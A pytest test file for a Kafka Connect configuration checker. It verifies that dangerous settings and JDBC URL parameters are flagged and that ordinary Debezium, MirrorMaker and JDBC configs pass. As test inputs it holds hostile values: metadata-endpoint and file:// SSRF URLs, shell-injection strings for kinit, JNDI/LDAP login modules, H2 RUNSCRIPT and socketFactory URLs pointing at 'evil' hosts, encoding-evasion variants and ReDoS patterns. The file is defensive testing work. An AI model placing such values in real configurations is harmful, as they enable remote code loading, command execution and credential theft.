"""Which settings are dangerous, under any prefix; and that ordinary configs of Debezium, MirrorMaker and JDBC have none."""

from __future__ import annotations

import pytest

from kconnect.core.settings.client_config import unfit
from kconnect.core.settings.unsafe import dangers, of_config

PREFIXES = (
    "reporter.producer.",
    "schema.history.internal.producer.",
    "schema.history.internal.consumer.",
    "database.history.consumer.",
    "signal.consumer.",
    "source.cluster.",
    "target.cluster.",
    "source.consumer.",
    "offset-syncs.topic.producer.",
    "heartbeats.admin.",
    "us-west.producer.",
    "confluent.topic.",
    "value.converter.schema.registry.",
    "anything.at.all.producer.",
)
JNDI = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://elsewhere";'
EVERYWHERE = (
    ("sasl.oauthbearer.token.endpoint.url", "http://169.254.169.254/", "sends the worker's requests"),
    ("sasl.oauthbearer.jwks.endpoint.url", "file:///etc/passwd", "sends the worker's requests"),
    ("sasl.oauthbearer.assertion.private.key.file", "/k", "reads the worker's files"),
    ("sasl.oauthbearer.metadata.authentication.type", "azure_imds", "the worker's own credentials"),
    ("sasl.kerberos.kinit.cmd", "touch /tmp/x", "runs a command"),
    ("plugin.library.paths", "x.so", "loads native code"),
    ("ssl.engine.location", "x.so", "loads native code"),
    ("ssl.providers", "x", "loads native code"),
    ("internal.termination.signal", "9", "may end the process"),
    ("offset.store.path", "/var/x", "writes files"),
    ("offset.store.method", "file", "writes files"),
    ("sasl.jaas.config", JNDI, "load code from elsewhere"),
    ("sasl.jaas.config", "com.example.Module required;", "a login module that is not Kafka's own"),
    ("sasl.jaas.config", f"/* {JNDI} */ org.apache.kafka.common.security.plain.PlainLoginModule required;", "load code"),
    ("sasl.jaas.config", '"com.example.PlainLoginModule" required;', "a login module that is not Kafka's own"),
    ("sasl.jaas.config", "com.example.PlainLoginModule required;", "a login module that is not Kafka's own"),
)
JAVAS = (
    ("security.providers", "com.example.Evil"),
    ("ssl.engine.factory.class", "com.example.Evil"),
    ("sasl.client.callback.handler.class", "com.example.Evil"),
    ("sasl.login.callback.handler.class", "com.example.Evil"),
    ("sasl.login.class", "com.example.Evil"),
    ("sasl.oauthbearer.jwt.retriever.class", "com.example.Evil"),
    ("interceptor.classes", "org.apache.kafka.Fine, com.example.Evil"),
    ("metric.reporters", "com.example.Evil"),
    ("bearer.auth.custom.provider.class", "com.example.Evil"),
    ("config.providers", "file"),
    ("config.providers.file.class", "org.apache.kafka.common.config.provider.FileConfigProvider"),
)
SLOW = (
    r".*(a|aa)+\1X",
    "(.*)x",
    ".*.*.*x",
    "a.*b.*c",
    r"\.*\.*\.*\.*x",
    "[a-z]*x*",
    "a+",
    "a{9}",
    "a?" * 100,
    r"\Qx",
    "a" * 400,
    "|".join("abcdefghijk"),
)
QUICK = ("", ".*", r"kafka\.consumer:.*|kafka\.producer:.*", ".*type=app-info.*", "kafka.consumer:type=app-info,client-id=a")
OF_CLIENTS = ("partitioner.class", "key.serializer", "value.deserializer", "partition.assignment.strategy")
JDBC = (
    ("jdbc:postgresql://h/d?socketFactory=org.springframework.X&socketFactoryArg=http://evil/x.xml", "socketfactory"),
    ("jdbc:postgresql://h/d?%73ocketFactory=org.springframework.X", "socketfactory"),
    ("jdbc:postgresql://h/d?loggerLevel=DEBUG&loggerFile=/x.jsp", "loggerfile"),
    ("jdbc:postgresql://h/d?authenticationPluginClassName=a.B", "authenticationpluginclassname"),
    ("jdbc:mysql://h/d?autoDeserialize=true", "autodeserialize"),
    ("jdbc:mysql://(host=h,port=1,autoDeserialize=yes)/d", "autodeserialize"),
    ("jdbc:mysql://address=(host=h)(allowLoadLocalInfile=true)/d", "allowloadlocalinfile"),
    ("jdbc:mysql://h/d?queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor", "queryinterceptors"),
    ("jdbc:mariadb://h/d?allowLocalInfile=true", "allowlocalinfile"),
    ("jdbc:sqlserver://h;trustManagerClass=a.B;x=y", "trustmanagerclass"),
    ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "init"),
    ("JDBC:h2:mem:x;iNiT=x", "init"),
    ("jdbc:h2:mem:x;I\\NIT=RUNSCRIPT FROM 'http://evil/x.sql'", "init"),
    ("jdbc:h2:mem:x;\u0131N\u0130T=x", "init"),
    ("\x01jdbc:h2:mem:x;INIT=x", "init"),
    (f"jdbc:h2:mem:x;INIT{' ' * 300}=x", "init"),
    ("jdbc:mysql://h/d?\x01autoDeserialize=true", "autodeserialize"),
    ("jdbc:mysql://h/d?autoDe%C5%BFerialize=true", "autodeserialize"),
    ("jdbc:mysql://h/d?auto%2544eserialize=true", "autodeserialize"),
    ("jdbc:mysql://h/d?idTokenFile=/etc/passwd", "idtokenfile"),
    ("jdbc:snowflake://h/?token_file_path=/etc/passwd", "token_file_path"),
    ("jdbc:mysql://h/d?logger=a.B", "logger"),
    ("jdbc:mysql:loadbalance://h/d?ha.loadBalanceStrategy=a.B", "loadbalancestrategy"),
    ("jdbc:mysql://h/d?defaultAuthenticationPlugin=a.B", "defaultauthenticationplugin"),
    ("jdbc:postgresql://h/d?xmlFactoryFactory=a.B", "xmlfactoryfactory"),
    ("jdbc:redshift://h/d;plugin_name=a.B", "plugin_name"),
    ("jdbc:avatica:remote:url=http://h;httpclient_impl=a.B", "httpclient_impl"),
    ("jdbc:sqlite:/x.db?enable_load_extension=true", "enable_load_extension"),
    ("jdbc:db2://h:1/d:clientRerouteServerListJNDIName=ldap://x;", "clientrerouteserverlistjndiname"),
)


@pytest.mark.parametrize("prefix", ["", *PREFIXES, "producer.override."])
@pytest.mark.parametrize(("name", "value", "reason"), EVERYWHERE)
def test_what_is_dangerous_under_any_prefix(prefix: str, name: str, value: str, reason: str) -> None:
    found = list(dangers(prefix + name, value))
    if prefix == "producer.override." and "login module that" in reason:
        assert found == [], "librdkafka's clients refuse other modules themselves"
        return
    assert [danger.part for danger in found] == [name]
    assert reason in found[0].reason
    assert list(dangers(prefix + name, value, [name])) == [], "the worker's file allows it"
    assert list(dangers(prefix + name, value, [prefix + name])) == [], "the worker's file allows it under this prefix"


@pytest.mark.parametrize("prefix", ["", *PREFIXES])
@pytest.mark.parametrize(("name", "value"), JAVAS)
def test_what_makes_a_java_client_load_a_class(prefix: str, name: str, value: str) -> None:
    assert [danger.part for danger in dangers(prefix + name, value)] == [name]
    assert list(dangers(f"consumer.override.{name}", value)) == [], "librdkafka loads no class"
    assert list(dangers(prefix + name, "")) == []


@pytest.mark.parametrize("prefix", ["", *PREFIXES])
@pytest.mark.parametrize("name", [f"metrics.jmx.{end}" for end in ("include", "exclude", "whitelist", "blacklist")])
def test_a_pattern_that_kafka_tries_while_all_clients_of_the_jvm_wait(prefix: str, name: str) -> None:
    """JmxReporter's lock is one for all. A pattern that never ends kept all connectors of a host from making clients."""
    for pattern in SLOW:
        assert [danger.part for danger in dangers(prefix + name, pattern)] == [name]
        assert list(dangers(f"consumer.override.{name}", pattern)) == [], "librdkafka has no beans"
    for pattern in QUICK:
        assert list(dangers(prefix + name, pattern)) == []


@pytest.mark.parametrize("name", OF_CLIENTS)
def test_what_is_a_class_of_a_client_behind_its_prefix_only(name: str) -> None:
    assert [danger.part for danger in dangers(f"schema.history.internal.producer.{name}", "com.example.Evil")] == [name]
    assert list(dangers(name, "io.confluent.connect.storage.partitioner.TimeBasedPartitioner")) == []
    assert list(dangers(f"source.producer.{name}", "org.apache.kafka.common.serialization.StringSerializer")) == []


SHELLS = (
    "x; touch /tmp/x",
    "$(touch /tmp/x)",
    "`x`",
    "a b",
    "-X=y",
    "x|y",
    "x&y",
    'x"y',
    "x'y",
    "x\\y",
    "x\ny",
    "%{sasl.password}",
)


@pytest.mark.parametrize("value", SHELLS)
@pytest.mark.parametrize("name", ["sasl.kerberos.principal", "sasl.kerberos.keytab", "sasl.kerberos.service.name"])
def test_what_a_shell_would_heed_in_the_command_line_of_kinit(name: str, value: str) -> None:
    assert [danger.part for danger in dangers(f"reporter.producer.{name}", value)] == [name]
    assert "it goes into a command line" in (unfit(name, value) or "")
    for fine in ("kafka/host.example.com@EXAMPLE.COM", "/etc/security/user.keytab", ""):
        assert list(dangers(f"reporter.producer.{name}", fine)) == []
        assert unfit(name, fine) is None


@pytest.mark.parametrize("name", ["  reporter.producer.plugin.library.paths ", "Reporter.Producer.PLUGIN.l\u0131brary.paths"])
def test_a_name_in_another_spelling(name: str) -> None:
    assert [danger.part for danger in dangers(name, "x.so")] == ["plugin.library.paths"]


@pytest.mark.parametrize(("url", "part"), JDBC)
def test_dangerous_parameters_of_a_jdbc_url(url: str, part: str) -> None:
    assert part in [danger.part for danger in dangers("connection.url", url)]
    assert part in [danger.part for danger in dangers("any.other.setting", f" {url}")]


@pytest.mark.parametrize("url", ["jdbc:sqlite::resource:http://evil/x.db", "jdbc:ignite:cfg://http://evil/x.xml"])
def test_a_jdbc_url_that_names_what_is_loaded(url: str) -> None:
    [danger] = dangers("connection.url", url)
    assert "load what is at an address" in danger.reason
    assert list(dangers("connection.url", url, ["connection.url"])) == []


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:mysql://h/d?socketFactory=com.mysql.cj.protocol.StandardSocketFactory&logger=Slf4JLogger&ha.loadBalanceStrategy=random",
        "jdbc:redshift:iam://c:eu-1/d?plugin_name=com.amazon.redshift.plugin.OktaCredentialsProvider",
        "jdbc:postgresql://h/d?sslmode=verify-full&sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory",
        "jdbc:sqlserver://h:1433;databaseName=d;encrypt=true;trustServerCertificate=true",
        "jdbc:oracle:thin:@//h:1521/PDB1",
    ],
)
def test_ordinary_jdbc_urls(url: str) -> None:
    assert list(dangers("connection.url", url)) == []


@pytest.mark.parametrize("prefix", ["driver.", "database.", "connection.", "driver.x."])
def test_dangerous_parameters_as_settings(prefix: str) -> None:
    assert [danger.part for danger in dangers(f"{prefix}socketFactory", "a.B")] == ["socketfactory"]
    assert [danger.part for danger in dangers(f"{prefix}allowLoadLocalInfile", "true")] == ["allowloadlocalinfile"]


def test_ordinary_configs_have_no_danger() -> None:
    plain = "org.apache.kafka.common.security.plain.PlainLoginModule required username='u' password='p';"
    amazon = "software.amazon.msk.auth.iam.IAMLoginModule required;"
    history = "schema.history.internal."
    config = {
        "connector.class": "io.debezium.connector.postgresql.PostgresConnector",
        f"{history}producer.security.protocol": "SASL_SSL",
        f"{history}producer.sasl.jaas.config": amazon,
        f"{history}producer.sasl.client.callback.handler.class": "software.amazon.msk.auth.iam.IAMClientCallbackHandler",
        f"{history}consumer.sasl.jaas.config": plain,
        f"{history}consumer.ssl.truststore.location": "/certs/trust.jks",
        f"{history}consumer.ssl.keystore.location": "/certs/key.jks",
        f"{history}kafka.bootstrap.servers": "k:9092",
        "schema.history.internal": "io.debezium.storage.kafka.history.KafkaSchemaHistory",
        "database.sslfactory": "org.postgresql.ssl.NonValidatingFactory",
        "driver.socketFactory": "com.google.cloud.sql.postgres.SocketFactory",
        "topic.naming.strategy": "io.debezium.schema.SchemaTopicNamingStrategy",
        "partitioner.class": "io.confluent.connect.storage.partitioner.DailyPartitioner",
        "storage.class": "io.confluent.connect.s3.storage.S3Storage",
        "source.cluster.bootstrap.servers": "k:9092",
        "source.cluster.sasl.jaas.config": plain,
        "source.consumer.auto.offset.reset": "earliest",
        "producer.override.interceptor.classes": "com.example.NotHere",
        "metric.reporters": "org.apache.kafka.common.metrics.JmxReporter",
        "replication.policy.class": "org.apache.kafka.connect.mirror.IdentityReplicationPolicy",
        "value.converter.schema.registry.url": "http://registry:8081",
        "value.converter.basic.auth.credentials.source": "USER_INFO",
        "value.converter.bearer.auth.credentials.source": "STATIC_TOKEN",
        "confluent.topic.bootstrap.servers": "k:9092",
        "connection.url": "jdbc:mysql://h:3306/shop?useSSL=false&serverTimezone=UTC&allowLoadLocalInfile=false",
        "key.serializer": "com.example.OfTheConnectors",
        "reporter.error.topic.name": "errors",
    }
    assert list(of_config(config)) == []


GOOGLES = "com.google.cloud.hosted.kafka.auth.GcpLoginCallbackHandler"
HERE = "bootstrap.c.europe-west1.managedkafka.p.cloud.goog:9092"


@pytest.mark.parametrize(
    ("prefix", "servers", "fine"),
    [
        ("schema.history.internal.producer.", {"schema.history.internal.kafka.bootstrap.servers": "evil.example:9092"}, False),
        ("schema.history.internal.producer.", {"schema.history.internal.kafka.bootstrap.servers": HERE}, True),
        ("target.producer.", {"source.cluster.bootstrap.servers": "k:9092", "target.cluster.bootstrap.servers": HERE}, True),
        ("target.producer.", {"source.cluster.bootstrap.servers": HERE, "target.cluster.bootstrap.servers": "k:9092"}, False),
        ("x.", {"bootstrap.servers": f"{HERE},evil.example:9092"}, False),
        ("x.", {"bootstrap.servers": "cloud.goog.evil.example:9092"}, False),
        ("x.", {}, True),
    ],
)
def test_the_machine_s_token_goes_to_brokers_that_it_is_for(prefix: str, servers: dict[str, str], fine: bool) -> None:
    config = {f"{prefix}sasl.login.callback.handler.class": GOOGLES, **servers}
    found = list(of_config(config))
    assert [danger.part for danger in found] == ([] if fine else ["sasl.login.callback.handler.class"])
    assert list(of_config(config, ["sasl.login.callback.handler.class"])) == []


@pytest.mark.parametrize(
    ("login", "servers", "fine"),
    [
        ("IAMOAuthBearerLoginCallbackHandler", "b-1.c.x.c2.kafka.eu-west-1.amazonaws.com:9098", True),
        ("IAMOAuthBearerLoginCallbackHandler", "boot-x.c1.kafka-serverless.eu-west-1.amazonaws.com:9098", True),
        ("IAMOAuthBearerLoginCallbackHandler", "ec2-1-2-3-4.compute-1.amazonaws.com:9098", False),
        ("IAMClientCallbackHandler", "kafka.example:9098", True),
    ],
)
def test_a_token_that_any_cluster_takes_goes_to_amazon_s_only(login: str, servers: str, fine: bool) -> None:
    config = {
        "signal.consumer.sasl.login.callback.handler.class": f"software.amazon.msk.auth.iam.{login}",
        "signal.kafka.bootstrap.servers": servers,
    }
    assert [danger.part for danger in of_config(config)] == ([] if fine else ["sasl.login.callback.handler.class"])
